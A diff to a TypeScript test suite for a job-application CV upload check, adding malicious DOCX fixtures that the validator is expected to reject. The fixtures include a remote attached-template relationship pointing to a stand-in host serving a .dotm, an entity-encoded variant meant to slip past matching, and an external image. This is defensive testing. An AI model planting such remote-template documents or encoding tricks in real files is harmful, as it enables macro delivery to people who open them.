@@ -121,6 +121,7 @@ function zipOf(files: Record<string, string>): Buffer {
     head.writeUInt16LE(name.length, 26);
     const entry = Buffer.alloc(46);
     entry.writeUInt32LE(0x02014b50, 0);
+    entry.writeUInt16LE(8, 10);
     entry.writeUInt32LE(data.length, 20);
     entry.writeUInt32LE(text.length, 24);
     entry.writeUInt16LE(name.length, 28);
@@ -139,6 +140,17 @@ function zipOf(files: Record<string, string>): Buffer {
   return Buffer.concat([...locals, directory, end]);
 }
 const DOCX = { '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>' };
+
+/** A document with a relationship of a kind to another host. */
+function docxWith(kind: string, mode: string): Buffer {
+  const type = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}`;
+  const relationship = `<Relationship Id="rId1" Type="${type}" Target="https://evil.example/x.dotm" ${mode}/>`;
+  return zipOf({
+    ...DOCX,
+    'word/_rels/settings.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`,
+  });
+}
+
 const PDF = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n');
 
 const withCv = (fields: Record<string, string>, bytes: Buffer, name: string, type = 'application/pdf') => {
@@ -347,6 +359,10 @@ describe('the job application', () => {
       ['a zip called .docx', zipOf({ 'a.txt': 'x' }), 'cv.docx'],
       ['a document with macros', zipOf({ ...DOCX, 'word/vbaProject.bin': 'x' }), 'cv.docx'],
       ['a document with a program inside', zipOf({ ...DOCX, 'word/embeddings/setup.exe': 'x' }), 'cv.docx'],
+      ['a document with a template elsewhere', docxWith('attachedTemplate', 'TargetMode="External"'), 'cv.docx'],
+      ['a document that hides it', docxWith('attachedTemplate', 'TargetMode="&#69;xternal"'), 'cv.docx'],
+      ['a document with a picture elsewhere', docxWith('image', "TargetMode='External'"), 'cv.docx'],
+      ['a document of another program', zipOf({ mimetype: 'application/vnd.oasis.opendocument.text' }), 'cv.odt'],
       ['a directory that lies', Buffer.concat([zipOf(DOCX).subarray(0, -12), Buffer.alloc(12, 255)]), 'cv.docx'],
     ];
     for (const [what, bytes, name] of files) {
@@ -362,7 +378,8 @@ describe('the job application', () => {
     );
     expect(await large.text()).toContain('en fazla 5 MB');
     expect(await rowsOf('Dosya Örnek')).toEqual([]);
-    const word = await send('/ik', withCv({ ...APPLICATION, sAdi: 'Sözcük' }, zipOf(DOCX), 'cv'));
+    const linked = docxWith('hyperlink', 'TargetMode="External"');
+    const word = await send('/ik', withCv({ ...APPLICATION, sAdi: 'Sözcük' }, linked, 'cv'));
     expect(word.status).toBe(303);
     const [kept] = await database.query<{ name: string }>(
       `select f.name from visitor_request_files f join visitor_requests r on r.id = f.request_id where r.name = 'Sözcük Örnek'`,
